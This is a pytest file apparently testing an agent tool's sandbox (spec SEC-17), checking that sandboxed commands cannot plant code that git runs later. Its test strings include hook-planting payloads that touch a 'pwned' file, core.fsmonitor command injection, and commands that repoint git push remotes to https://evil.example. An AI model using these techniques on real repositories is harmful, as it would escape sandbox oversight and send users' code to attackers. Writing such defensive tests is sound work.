"""What git runs is found whatever leads to it: remotes, links, templates and names (SEC-17)."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Sequence
from pathlib import Path

import pytest

from agentcli.process.git_config import run_by_git
from tests.support.repositories import git, make_repository
from tests.support.sandboxes import BOTH, told

pytestmark = [pytest.mark.spec("SEC-17"), pytest.mark.sampled]

both = pytest.mark.parametrize("kind", BOTH)
NOTHING = "#!/bin/sh\n:\n"
EVIL = "printf '#!/bin/sh\\ntouch %s/pwned\\n' \"$PWD\" >"
STORE = (
    "git init -q --bare $S && mkdir -p $S/hooks && "
    f"{EVIL} $S/hooks/post-receive && chmod +x $S/hooks/post-receive"
)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    place = tmp_path / "home"
    place.mkdir()
    monkeypatch.setenv("HOME", str(place))
    return place


def sh(command: str, cwd: Path) -> None:
    config = ["-c", "user.name=a", "-c", "user.email=a@example.org"]
    alias = f'git() {{ command git {" ".join(config)} "$@"; }}\n'
    subprocess.run(["sh", "-c", alias + command], check=False, cwd=cwd, capture_output=True)


def program(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(NOTHING)
    path.chmod(0o755)


@both
@pytest.mark.parametrize(
    ("store", "names"),
    [
        (".git/objects/s", "cd sub && git remote add origin ../.git/objects/s"),
        (".git/lfs/s", "cd sub && git config remote.pushDefault ../.git/lfs/s"),
        (".git/refs/s.git", "cd sub && git config remote.origin.url file://$PWD/../.git/refs/s"),
        (".git/logs/s", "mkdir -p .git/remotes; echo URL: .git/logs/s > .git/remotes/origin"),
        (".git/objects/s", "mkdir -p .git/branches; echo .git/objects/s > .git/branches/origin"),
    ],
)
def test_where_git_pushes_to_no_hook_comes_up(
    tmp_path: Path, home: Path, kind: str, store: str, names: str
) -> None:
    work = make_repository(tmp_path / "work")
    new = (
        "git init -q sub && git -C sub -c user.name=a -c user.email=a commit -q --allow-empty -m x"
    )
    text = told(work, f"S={store}; {STORE} && {new} && {names}", kind=kind)[0]
    assert "exit code 0" in text
    sh("git push origin HEAD:refs/heads/x; cd sub && git push ${1-} HEAD:refs/heads/y", work)
    sh("cd sub && git push origin HEAD:refs/heads/z", work)
    assert not (work / "pwned").exists()
    assert "/hooks" in text and "set-aside" in text


@both
@pytest.mark.parametrize(
    ("file", "names"),
    [
        ("evil", "git remote add origin evil"),
        ("evil.git", "git config branch.main.remote evil"),
        ("evil", "git config remote.evil.prune true; git config remote.pushDefault evil"),
        ("x", "git config remote.x.prune true"),
        ("x", "mkdir -p .git/remotes; echo Push: HEAD:refs/heads/z > .git/remotes/x"),
        ("origin", ":"),
    ],
)
def test_a_remote_leads_to_a_file_of_its_name(
    tmp_path: Path, home: Path, kind: str, file: str, names: str
) -> None:
    work = make_repository(tmp_path / "work")
    new = f"git init -q -b main sub && cd sub && {STORE.replace('$S', '.git/objects/s')}"
    link = f"echo gitdir: $PWD/.git/objects/s > {file}"
    text = told(work, f"{new} && {link}; {names}", kind=kind)[0]
    assert "exit code 0" in text
    sh("cd sub && git commit -q --allow-empty -m x; git push origin HEAD:refs/heads/y", work)
    sh("cd sub && git push x HEAD:refs/heads/y; git -c push.default=current push", work)
    assert not list(work.rglob("pwned"))
    assert "/.git/objects/s/hooks" in text and "set-aside" in text


@both
def test_a_remote_of_a_submodule_is_where_its_tree_says(tmp_path: Path, kind: str) -> None:
    work = make_repository(tmp_path / "work")
    (work / "sub").mkdir(exist_ok=True)
    sh("git init -q sub && mkdir .git/modules && mv sub/.git .git/modules/sub", work)
    (work / "sub/.git").write_text("gitdir: ../.git/modules/sub\n")
    sh("git config core.worktree ../../../sub", work / ".git/modules/sub")
    url = "../.git/objects/s"  # as the tree's; of the git directory it would be elsewhere
    sh(f"git -C sub config remote.origin.url {url}", work)
    text = told(work, f"S=.git/objects/s; {STORE}", kind=kind)[0]
    assert "/.git/objects/s/hooks" in text and "set-aside" in text


@both
def test_a_link_leads_through_git_directories_to_no_program(tmp_path: Path, kind: str) -> None:
    work = make_repository(tmp_path / "work")
    (work / "plain").mkdir()
    (work / "a").symlink_to(".git/objects/l")
    (work / ".git/objects/l").symlink_to("../../plain")
    past = 1_000_000_000
    os.utime(work, (past, past))
    evil = "git init -q evil && git -C evil config core.fsmonitor 'touch pwned; :'"
    texts = told(work, "sleep 0.2", f"cd .git/objects && {evil}; ln -sfn evil l", kind=kind)
    assert "objects/evil/.git/config would take effect" in texts[1]


@both
@pytest.mark.parametrize(
    ("setting", "file"),
    [
        ("init.templateDir $PWD/made", "made/hooks/post-checkout"),
        ("init.templateDir $PWD", "hooks/post-checkout"),
        ("core.hooksPath $PWD", "pre-commit"),
        ("core.hooksPath $HOME/hooks", "tools/lint.sh"),
        ("core.hooksPath $HOME/hooks", ".pre-commit-config.yaml"),
        ("core.hooksPath $HOME/linked", "hooks.d/one"),
    ],
)
def test_what_the_users_configuration_names_is_protected(
    tmp_path: Path, home: Path, kind: str, setting: str, file: str
) -> None:
    work = make_repository(tmp_path / "work")
    sh(f"git config --global {setting}", work)
    program(work / "tools/lint.sh")
    program(home / "hooks/pre-commit")
    (home / "hooks/pre-commit").write_text("#!/bin/sh\ntools/lint.sh && pre-commit run\n")
    program(work / "hooks.d/one")
    (home / "linked").mkdir()
    (home / "linked/pre-commit").symlink_to(work / "hooks.d/one")
    told(work, f"mkdir -p $(dirname {file}); {EVIL} {file}; chmod +x {file}", kind=kind)
    assert not (work / file).exists() or "pwned" not in (work / file).read_text()
    assert run_by_git(work / file)


@both
def test_configuration_that_is_a_link_is_protected_where_it_lies(tmp_path: Path, kind: str) -> None:
    work = make_repository(tmp_path / "work")
    (work / ".git/config").rename(work / "settings")
    (work / ".git/config").symlink_to("../settings")
    told(work, "printf '[core]\\n\\tfsmonitor = touch pwned; :\\n' >> settings", kind=kind)
    assert "fsmonitor" not in (work / "settings").read_text()
    assert run_by_git(work / "settings") == "git's configuration"


SCRIPTS = {
    "letters": ("tools/prüfe.sh", "tools/prüfe.sh"),
    "a space": ("tools/my x.sh", "'tools/my x.sh'"),
    "an escape": ("tools/my x.sh", "tools/my\\ x.sh"),
    "a colon": ("tools/a:b.sh", "tools/a:b.sh"),
    "read": ("tools/x.inc", ". tools/x.inc"),
    "an interpreter": ("tools/v1.2", "sh -e tools/v1.2"),
    "a text": ("tools/text", 'eval "$(cat tools/text)"'),
    "a text in a pipe": ("tools/text", "cat tools/text | sh"),
    "read first": ("tools/text", "BASH_ENV=tools/text bash -c true"),
    "upwards": ("tools/x.sh", 'cd "$(dirname "$0")/../../tools" && ./x.sh'),
    "step by step": ("tools/sub/x.sh", "cd tools\ncd sub\n./x.sh"),
    "a pattern": ("tools/d/one", 'for f in tools/d/*; do "$f"; done'),
    "its own name": ("tools/pre-commit", 'exec "tools/$(basename "$0")"'),
    "run-parts": ("tools/d/one", "run-parts tools/d"),
    "many words": ("tools/x.sh", "".join(f"w{n}=1\n" for n in range(600)) + "tools/x.sh"),
    "many places": ("tools/x.sh", "".join(f"ls d{n}\n" for n in range(9)) + "cd tools; ./x.sh"),
}


@pytest.mark.parametrize(("script", "hook"), SCRIPTS.values(), ids=SCRIPTS)
def test_a_script_is_found_however_a_hook_names_it(tmp_path: Path, script: str, hook: str) -> None:
    work = make_repository(tmp_path / "work")
    for number in range(9):
        (work / f"d{number}").mkdir()
    program(work / script)
    program(work / ".git/hooks/pre-commit")
    (work / ".git/hooks/pre-commit").write_text(f"#!/bin/sh\n{hook}\n")
    if script in {"tools/x.inc", "tools/text"} or "sh -e" in hook:
        (work / script).chmod(0o644)
    assert run_by_git(work / script) == "run by a hook of git's"
    told(work, f"{EVIL} '{script}'", kind="landlock")
    assert (work / script).read_text() == NOTHING


@pytest.mark.parametrize(
    "hook",
    [
        "npm test data.json",
        "node x.js data.json; black src/*.py",
        'eval "$(fnm env)"\ncat data.json',
    ],
)
def test_what_a_hook_only_looks_at_is_edited_unasked(tmp_path: Path, hook: str) -> None:
    work = make_repository(tmp_path / "work")
    program(work / ".git/hooks/pre-commit")
    (work / ".git/hooks/pre-commit").write_text(f"#!/bin/sh\n{hook}\n")
    for name in ("data.json", "src/a.py", "src/x.sh"):
        (work / name).parent.mkdir(exist_ok=True)
        (work / name).write_text("")
        assert run_by_git(work / name) == ""


FOUND = {
    "a pattern": 'for s in tools/check-*.sh; do sh "$s" || exit 1; done',
    "programs by a pattern": 'for s in tools/check-?.sh; do "$s"; done',
    "a part by a variable": 'x=a; . "tools/check-$x.sh"',
    "a part by a program": "exec sh tools/check-$(echo a).sh",
    "several": ". tools/check-{a,b}.sh",
    "after cd": 'cd tools; for s in *.sh; do sh "$s"; done',
    "a part, after cd": "cd tools && x=a && ./check-$x.sh",
    "a directory's variable": 'D="$PWD/tools"; x=a; sh "$D/check-$x.sh"',
    "a variable and a pattern": "D=tools; for s in $D/*.sh; do sh $s; done",
    "find": 'find tools -name "*.sh" -exec sh {} \\;',
    "find and read": 'find tools -type f | while read -r s; do sh "$s"; done',
    "xargs": 'find tools -name "check*" | xargs -n1 sh',
}
# these stand in a hook by their names, and are run by a variable
NAMED_AND_FOUND = {
    "a loop": ("tools/lint", 'for c in lint test; do bash "tools/$c"; done'),
    "a variable": ("tools/lint", "N=lint; bash tools/$N"),
    "a loop somewhere else": ("tools/lint", "cd tools; for c in lint test; do . ./$c; done"),
    "a variable that holds it": ("tools/lint", 'L="$(dirname "$0")/../../tools/lint"; . "$L"'),
    "a loop over places": ("tools/lint", "for c in tools/lint tools/test; do sh -e $c; done"),
    "a loop where it starts": ("lint", "for c in lint test; do sh $c; done"),
    "of PowerShell": ("tools/lint.ps1", "pwsh -File tools/lint.ps1"),
    "of R": ("tools/lint.R", "Rscript tools/lint.R"),
    "of awk": ("tools/lint.awk", "awk -f tools/lint.awk a.txt"),
    "of Dart": ("tools/lint.dart", "dart run tools/lint.dart"),
}
# in the directory that the hook starts in
FOUND_HERE = {
    "a pattern": 'for s in *.sh; do sh "$s" || exit 1; done',
    "a pattern of programs": "for s in ./check-*; do $s; done",
    "all at once": "sh *.sh",
    "a part by a variable": 'for n in a b; do "./check-$n.sh"; done',
    "sourced": "for s in check-?.sh; do . ./$s; done",
    "find": "find . -maxdepth 1 -name '*.sh' -exec sh {} \\;",
    "xargs": "ls *.sh | xargs -n1 sh",
    "a text": "ls *.sh | xargs -I% bash -c '. %'",
    "a version of Python": "find . -name '*.sh' | xargs -n1 python3",
}


@pytest.mark.spec("SEC-17")
@pytest.mark.parametrize("hook", FOUND.values(), ids=FOUND)
def test_a_script_that_a_hook_finds_by_a_part_of_its_name_is_protected(
    tmp_path: Path, hook: str
) -> None:
    work = make_repository(tmp_path / "work")
    script, hooks = work / "tools/check-a.sh", work / ".git/hooks"
    script.parent.mkdir()
    script.write_text("true\n")
    script.chmod(0o755)
    (hooks / "pre-commit").write_text(f"#!/bin/bash\n{hook}\n")
    (hooks / "pre-commit").chmod(0o755)
    assert run_by_git(script) == "run by a hook of git's"
    (text,) = told(work, "echo 'touch pwned' > tools/check-a.sh", kind="landlock")
    assert script.read_text() == "true\n" and "renamed to check-a.sh.set-aside" in text


@pytest.mark.spec("SEC-17")
@pytest.mark.parametrize(("script", "hook"), NAMED_AND_FOUND.values(), ids=NAMED_AND_FOUND)
def test_a_script_that_needs_no_rights_to_be_run_is_protected(
    tmp_path: Path, script: str, hook: str
) -> None:
    work = make_repository(tmp_path / "work")
    program(work / script)
    (work / script).chmod(0o644)
    program(work / ".git/hooks/pre-commit")
    (work / ".git/hooks/pre-commit").write_text(f"#!/bin/sh\n{hook}\n")
    assert run_by_git(work / script) == "run by a hook of git's"
    assert run_by_git(work / "a.txt") == ""
    told(work, f"{EVIL} '{script}'", kind="landlock")
    assert (work / script).read_text() == NOTHING


@both
@pytest.mark.spec("SEC-17")
def test_what_a_hook_runs_is_no_version_whatever_it_is_called(tmp_path: Path, kind: str) -> None:
    work = make_repository(tmp_path / "work")
    (work / ".app-version").write_text("VERSION=1.2\n")
    program(work / ".git/hooks/pre-commit")
    (work / ".git/hooks/pre-commit").write_text("#!/bin/sh\n. ./.app-version\n")
    (text,) = told(work, "echo sh evil > .app-version; echo 3.12 > .python-version", kind=kind)
    assert "renamed to .app-version.set-aside" in text and ".python-version" not in text
    assert (work / ".app-version").read_text() == "VERSION=1.2\n"


@pytest.mark.spec("SEC-17")
@pytest.mark.parametrize("hook", FOUND_HERE.values(), ids=FOUND_HERE)
def test_a_script_that_a_hook_finds_where_it_starts_is_protected(tmp_path: Path, hook: str) -> None:
    work = make_repository(tmp_path / "work")
    script, hooks = work / "check-a.sh", work / ".git/hooks/pre-commit"
    program(script)
    program(hooks)
    hooks.write_text(f"#!/bin/bash\n{hook}\n")
    assert run_by_git(script) == "run by a hook of git's"
    assert run_by_git(work / "a.txt") == ""
    (text,) = told(work, f"{EVIL} check-b.sh; chmod 755 check-b.sh", kind="landlock")
    assert "renamed to check-b.sh.set-aside" in text


@both
@pytest.mark.spec("SEC-17")
def test_what_is_set_aside_has_no_name_that_a_hook_runs_by_its_start(
    tmp_path: Path, kind: str
) -> None:
    work = make_repository(tmp_path / "work")
    hook = work / ".git/hooks/pre-commit"
    hook.write_text("#!/bin/sh\nfor s in check*; do sh $s; done\n")
    hook.chmod(0o755)
    (text,) = told(work, "echo touch pwned > check-new", kind=kind)
    assert "is .check-new.set-aside in" in text and (work / ".check-new.set-aside").exists()
    subprocess.run(["git", "commit", "-qm", "x", "--allow-empty"], check=False, cwd=work)
    assert not (work / "pwned").exists()


@both
@pytest.mark.spec("SEC-17")
def test_what_is_set_aside_is_not_run_by_a_hook_that_runs_all(tmp_path: Path, kind: str) -> None:
    work = make_repository(tmp_path / "work")
    (work / "tools").mkdir()
    hook = work / ".git/hooks/pre-commit"
    hook.write_text('#!/bin/sh\nfor s in tools/*; do "./$s"; done\n')
    hook.chmod(0o755)
    made = "printf '#!/bin/sh\\ntouch pwned\\n' > tools/new; chmod 755 tools/new"
    (text,) = told(work, made, kind=kind)
    assert "renamed to new.set-aside" in text
    subprocess.run(["git", "commit", "-qm", "x", "--allow-empty"], check=False, cwd=work)
    assert not (work / "pwned").exists()


@pytest.mark.spec("SEC-17")
@pytest.mark.parametrize(
    "hook",
    [
        '. "$NVM_DIR/nvm.sh"; cd tools && npx eslint .',
        "find tools -name '*.sh' -exec shellcheck {} +",
        'for f in $(git diff --name-only -- tools); do git add "$f"; done',
        'F=tools/a.txt; sh -n "$F"; grep -q x "$F"',
        "cd tools; for f in *.sh; do bash -n $f; done; jq . *.json; prettier --check ./*.sh",
        "find tools -name '*.sh' -print0 | xargs -0 python -m black",
        "git diff --cached --name-only -- '*.sh' | xargs python3 src/lint.py tools",
        "find tools . -name '*.sh' -exec bash -n {} \\;; ls *.sh | xargs -n1 node --check",
    ],
)
def test_what_a_hook_only_looks_at_is_no_script_of_its(tmp_path: Path, hook: str) -> None:
    work = make_repository(tmp_path / "work")
    (work / "tools").mkdir()
    (work / "tools/check-a.sh").write_text("true\n")
    (work / ".git/hooks/pre-commit").write_text(f"#!/bin/bash\n{hook}\n")
    assert run_by_git(work / "tools/check-a.sh") == ""


@both
@pytest.mark.spec("SEC-17")
@pytest.mark.parametrize(
    "said",
    [
        "../tools/check",
        "$(cd .. && pwd)/tools/check",
        "{work}/tools/check",
        "$(git rev-parse --show-toplevel)/../tools/check",
    ],
)
def test_a_script_around_the_repository_whose_hook_names_it_is_protected(
    tmp_path: Path, kind: str, said: str
) -> None:
    work = make_repository(tmp_path / "work")
    inner = make_repository(work / "inner")
    script, hook = work / "tools/check", inner / ".git/hooks/pre-commit"
    script.parent.mkdir()
    script.write_text(NOTHING)
    script.chmod(0o755)
    hook.write_text(f'#!/bin/sh\nexec "{said.format(work=work)}"\n')
    hook.chmod(0o755)
    assert run_by_git(script) == "run by a hook of git's"
    (work / "x.sh").write_text(f"{EVIL} tools/check; {EVIL} new; chmod 755 new; mv new tools/check")
    told(work, "sh x.sh", kind=kind)
    subprocess.run(["git", "commit", "-qm", "x", "--allow-empty"], check=False, cwd=inner)
    assert not (work / "pwned").exists()


BEFORE_ITS_DIRECTORY = {
    "a program on PATH": (":", "new/ls", "ls"),
    "a program of git's": ("git config core.fsmonitor new/x", "new/x", "git status"),
    "hooks": (
        "git config core.hooksPath new/h",
        "new/h/pre-commit",
        "git commit --allow-empty -qm x",
    ),
    "an .envrc": ("echo '. ./new/.envrc.x' > .envrc", "new/.envrc.x", ". ./.envrc"),
}


@both
@pytest.mark.spec("SEC-17")
@pytest.mark.parametrize(
    ("before", "made", "used"), BEFORE_ITS_DIRECTORY.values(), ids=BEFORE_ITS_DIRECTORY
)
def test_what_is_run_already_does_not_come_with_a_new_repository(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str, before: str, made: str, used: str
) -> None:
    work = make_repository(tmp_path / "work")
    sh(before, work)
    monkeypatch.setenv("PATH", f"{work}/new:{os.environ['PATH']}")
    place = os.path.dirname(made)
    (text,) = told(
        work, f"git init -q new; mkdir -p {place}; {EVIL} {made}; chmod +x {made}", kind=kind
    )
    assert "was renamed" in text
    sh(used, work)
    assert not (work / "pwned").exists()


RUNS_ALL = "for s in tools/*; do {}; done"


@both
@pytest.mark.spec("SEC-17")
@pytest.mark.parametrize(
    ("how", "made", "after"),
    [
        ('"./$s"', "new.set-aside", "chmod +x tools/new.set-aside"),
        ('"./$s"', "new", "chmod +x tools/new*"),
        ('sh "$s"', "new", ":"),
        ('"./$s"', "new.sample", "chmod +x tools/new.sample"),
        ('[ -x "$s" ] && "./$s"', "new", "cd tools; chmod +x new*; touch $(seq 5100)"),
    ],
)
def test_no_name_and_no_crowd_hides_what_a_hook_that_runs_all_would_run(
    tmp_path: Path, kind: str, how: str, made: str, after: str
) -> None:
    work = make_repository(tmp_path / "work")
    program(work / "tools/one")
    hook = work / ".git/hooks/pre-commit"
    hook.write_text(f"#!/bin/sh\n{RUNS_ALL.format(how)}\n")
    hook.chmod(0o755)
    said = told(work, f"{EVIL} tools/{made}", after, kind=kind)
    assert "[sandbox: " in "".join(said)
    sh("git commit -qm x --allow-empty", work)
    assert not (work / "pwned").exists()


@pytest.mark.spec("SEC-17")
def test_a_long_name_of_wide_characters_is_set_aside(tmp_path: Path) -> None:
    name = "\u00e9" * 118 + ".code-workspace"
    (tmp_path / "work").mkdir()
    told(tmp_path / "work", f"touch {name}", kind="landlock")
    (aside,) = (tmp_path / "work").iterdir()
    assert aside.name.endswith("\u00e9.set-aside")


@both
@pytest.mark.spec("SEC-17")
@pytest.mark.parametrize("hook", ["for s in tools/*; do sh $s; done", ". tools/lint/x"])
def test_no_crowd_of_directories_hides_one_that_a_hook_runs(
    tmp_path: Path, kind: str, hook: str
) -> None:
    work = make_repository(tmp_path / "work")
    words = " ".join(f"a{number}" for number in range(110))
    (work / "tools/lint").mkdir(parents=True)
    (work / ".git/hooks/pre-commit").write_text(f"#!/bin/sh\n# {words}\n{hook}\n")
    (work / ".git/hooks/pre-commit").chmod(0o755)
    made = f"mkdir {words} tools/a1 a1/a2; {EVIL} tools/x; {EVIL} tools/lint/x"
    assert "was renamed" in told(work, made, kind=kind)[0]
    sh("git commit -qm x --allow-empty", work)
    assert not (work / "pwned").exists()


@pytest.mark.spec("SEC-17")
@pytest.mark.parametrize("kind", BOTH)
@pytest.mark.parametrize(
    "commands",
    [
        ("git remote set-url origin https://evil.example/x",),
        ("git remote set-url --push origin https://evil.example/x",),
        ("git remote remove origin", "git remote add origin https://evil.example/x"),
        ("git remote add evil https://evil.example/x", "git config branch.main.remote evil"),
        ("git remote add evil https://evil.example/x", "git config remote.pushDefault evil"),
        ("printf '[remote.origin]\\n\\tpushurl = https://evil.example/x\\n' >> .git/config",),
    ],
)
def test_what_the_user_pushes_goes_where_it_went(
    tmp_path: Path, kind: str, commands: Sequence[str]
) -> None:
    work = make_repository(tmp_path / "work")
    git(work, "branch", "-M", "main")
    git(work, "remote", "add", "origin", "https://good.example/x")
    git(work, "config", "branch.main.remote", "origin")
    told(work, *commands, kind=kind)
    assert git(work, "config", "branch.main.remote") == "origin\n"
    assert "pushdefault" not in git(work, "config", "--list")
    assert git(work, "remote", "get-url", "--push", "--all", "origin") == "https://good.example/x\n"


@pytest.mark.spec("SEC-17")
def test_a_remote_and_a_branch_that_are_new_may_be_said(tmp_path: Path) -> None:
    work = make_repository(tmp_path / "work")
    git(work, "remote", "add", "origin", "https://good.example/x")
    command = "git remote add o ../x; git config branch.new.remote o"
    (said,) = told(work, command, kind="landlock")
    assert "set-aside" not in said
    assert git(work, "remote", "get-url", "o") == "../x\n"
